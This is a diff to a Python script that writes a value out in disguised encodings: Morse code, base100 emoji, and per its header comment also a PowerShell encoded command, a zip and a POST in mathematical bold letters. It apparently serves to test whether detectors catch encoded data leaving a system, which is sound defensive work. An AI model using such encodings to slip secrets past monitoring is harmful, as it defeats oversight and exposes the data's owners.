@@ -5,7 +5,8 @@
 # 3. POSTed as mathematical bold letters;
 # 4. written as PowerShell's -EncodedCommand (base64 of UTF-16LE);
 # 5. written into a zip, deflated;
-# 6. written as Morse code.
+# 6. written as Morse code;
+# 7. written as base100 (emoji).
 import base64
 import os
 import socket
@@ -54,3 +55,6 @@ M = {'a': '.-', 'b': '-...', 'c': '-.-.', 'd': '-..', 'e': '.', 'f': '..-.', 'g'
      '9': '----.', '_': '..--.-'}
 with open("/tmp/m.txt", "w") as f:
     f.write(" ".join(M[c] for c in s.lower()) + "\n")
+# 7 (base100: a byte b as the emoji U+1F3F7+b)
+with open("/tmp/b100.txt", "w") as f:
+    f.write("".join(chr(0x1F3F7 + b) for b in a.encode()) + "\n")
